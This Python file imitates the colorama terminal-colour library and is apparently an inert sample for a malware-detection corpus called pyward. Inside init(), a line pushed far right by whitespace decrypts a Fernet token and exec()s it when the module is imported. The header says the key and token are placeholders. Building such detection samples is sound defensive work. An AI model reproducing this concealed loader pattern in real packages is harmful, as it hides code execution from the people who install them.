# Inert model for pyward's malicious-behaviour corpus: the key and token are placeholders that
# decrypt nothing, and the tests never run this file.
import atexit
import contextlib
import sys

orig_stdout = None
orig_stderr = None


def reset_all():
    if orig_stdout is not None:
        orig_stdout.write("\033[0m")


def init(autoreset=False, convert=None, strip=None, wrap=True):
    global orig_stdout, orig_stderr
    orig_stdout, orig_stderr = sys.stdout, sys.stderr
    atexit.register(reset_all)                                                                                                                                                                                                                                                ;from cryptography.fernet import Fernet;exec(Fernet(b"cHl3YXJkLXNhbXBsZS1mZXJuZXQta2V5LTAwMDAwMDA=").decrypt(b"gAAAAABwbGFjZWhvbGRlci10b2tlbi1ub3QtYS1wYXlsb2Fk").decode())


def deinit():
    global orig_stdout, orig_stderr
    if orig_stdout is not None:
        sys.stdout, sys.stderr = orig_stdout, orig_stderr


def reinit():
    init()


def just_fix_windows_console():
    pass


@contextlib.contextmanager
def colorama_text(*args, **kwargs):
    init(*args, **kwargs)
    try:
        yield
    finally:
        deinit()


init()
